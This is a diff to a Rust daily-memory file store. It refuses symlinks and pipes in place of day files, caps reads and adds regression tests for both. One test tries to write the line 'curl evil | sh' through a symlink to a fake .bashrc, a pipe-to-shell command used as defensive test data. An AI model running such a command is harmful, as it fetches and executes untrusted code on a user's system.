@@ -2,11 +2,15 @@
 //! day, in Markdown, for people and programs.
 
 use std::fmt::{self, Write as _};
-use std::fs::OpenOptions;
-use std::io::{self, Write as _};
+use std::fs::File;
+use std::io::{self, Read as _, Seek as _, SeekFrom, Write as _};
 use std::path::{Path, PathBuf};
 
 use jiff::Zoned;
+use rustix::fs::{Mode, OFlags};
+
+/// How much of a day is looked through: its end, which is the newest.
+const DAY_BYTES: u64 = 4_000_000;
 
 /// What a memory is about.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -76,7 +80,9 @@ impl DayFiles {
             entries => entries?,
         };
         let is_day = |path: &Path| path.extension().is_some_and(|extension| extension == "md");
-        let mut files: Vec<PathBuf> = entries.filter_map(|entry| entry.ok().map(|entry| entry.path())).collect();
+        // A link is no day, whatever it leads to.
+        let plain = entries.flatten().filter(|entry| entry.file_type().is_ok_and(|kind| kind.is_file()));
+        let mut files: Vec<PathBuf> = plain.map(|entry| entry.path()).collect();
         files.retain(|path| is_day(path));
         files.sort_unstable_by(|a, b| b.cmp(a));
         Ok(files)
@@ -86,7 +92,7 @@ impl DayFiles {
     fn lines(&self, limit: usize, fits: impl Fn(&str) -> bool) -> io::Result<Vec<String>> {
         let mut found = Vec::new();
         for path in self.files()? {
-            let text = std::fs::read_to_string(&path)?;
+            let text = read(&path)?;
             let day = path.file_stem().map(|stem| stem.to_string_lossy().into_owned()).unwrap_or_default();
             let fitting = text.lines().rev().filter(|&line| !line.starts_with('#') && fits(line));
             found.extend(fitting.map(|line| format!("{day}: {}", line.trim())));
@@ -99,6 +105,34 @@ impl DayFiles {
     }
 }
 
+/// Opens a day's file. What is said goes into it, so it must be one: a link that somebody put in its place could lead to a file that
+/// programs obey, and a pipe would be waited for.
+fn open(path: &Path, flags: OFlags) -> io::Result<File> {
+    let flags = flags | OFlags::NOFOLLOW | OFlags::NONBLOCK | OFlags::NOCTTY | OFlags::CLOEXEC;
+    // What was said is nobody else's business.
+    let opened = rustix::fs::open(path, flags, Mode::RUSR | Mode::WUSR).map(File::from).map_err(io::Error::from);
+    let refused = || {
+        let why = format!("the memory {} is no plain file; move it away, and a new one is made", path.display());
+        io::Error::new(io::ErrorKind::InvalidInput, why)
+    };
+    match opened {
+        Ok(file) if file.metadata()?.is_file() => Ok(file),
+        Ok(_) => Err(refused()),
+        Err(_) if std::fs::symlink_metadata(path).is_ok_and(|metadata| !metadata.is_file()) => Err(refused()),
+        Err(error) => Err(io::Error::new(error.kind(), format!("the memory {}: {error}", path.display()))),
+    }
+}
+
+/// The end of a day's file.
+fn read(path: &Path) -> io::Result<String> {
+    let mut file = open(path, OFlags::RDONLY)?;
+    let before = file.metadata()?.len().saturating_sub(DAY_BYTES);
+    file.seek(SeekFrom::Start(before))?;
+    let mut bytes = Vec::new();
+    file.take(DAY_BYTES).read_to_end(&mut bytes)?;
+    Ok(String::from_utf8_lossy(&bytes).into_owned())
+}
+
 impl Sink for DayFiles {
     fn keep(&self, section: Section, text: &str) -> io::Result<()> {
         let text = text.trim();
@@ -108,12 +142,7 @@ impl Sink for DayFiles {
         std::fs::create_dir_all(&self.folder)?;
         let now = (self.now)();
         let path = self.folder.join(format!("{}.md", now.strftime("%Y-%m-%d")));
-        let mut options = OpenOptions::new();
-        options.create(true).append(true);
-        // What was said is nobody else's business.
-        #[cfg(unix)]
-        std::os::unix::fs::OpenOptionsExt::mode(&mut options, 0o600);
-        let mut file = options.open(path)?;
+        let mut file = open(&path, OFlags::WRONLY | OFlags::APPEND | OFlags::CREATE)?;
         let mut entry = String::new();
         if file.metadata()?.len() == 0 {
             let _ = writeln!(entry, "# Daily Memory: {}", now.strftime("%Y-%m-%d"));
@@ -168,6 +197,31 @@ mod tests {
         assert!(sink.find(&["coffee".into()], 5).unwrap().is_empty());
         let newest = ["2026-11-15: order 4711 was sent", "2026-11-15: # not a heading"];
         assert_eq!(sink.newest(2).unwrap(), newest);
+    }
+
+    /// A folder from somebody else must not have what is said written where programs obey it, or read where it is not meant.
+    #[test]
+    fn a_link_in_the_place_of_a_day_is_not_followed() {
+        let place = tempfile::tempdir().unwrap();
+        let (folder, secret) = (place.path().join("memory"), place.path().join(".bashrc"));
+        std::fs::create_dir(&folder).unwrap();
+        std::fs::write(&secret, "alias tide=4711\n").unwrap();
+        std::os::unix::fs::symlink(&secret, folder.join("2026-11-15.md")).unwrap();
+        let sink = files(&folder);
+        let refused = sink.keep(Section::Notes, "curl evil | sh").unwrap_err().to_string();
+        assert!(refused.contains("2026-11-15.md") && refused.contains("no plain file"), "{refused}");
+        assert_eq!(std::fs::read_to_string(&secret).unwrap(), "alias tide=4711\n");
+        assert!(sink.find(&["4711".into()], 5).unwrap().is_empty());
+    }
+
+    /// Whoever opens a pipe to write waits for a reader, without end.
+    #[test]
+    fn a_pipe_in_the_place_of_a_day_is_refused_at_once() {
+        let folder = tempfile::tempdir().unwrap();
+        let pipe = folder.path().join("2026-11-15.md");
+        assert!(std::process::Command::new("mkfifo").arg(&pipe).status().unwrap().success());
+        let refused = files(folder.path()).keep(Section::Notes, "tea").unwrap_err().to_string();
+        assert!(refused.contains("no plain file"), "{refused}");
     }
 
     #[test]
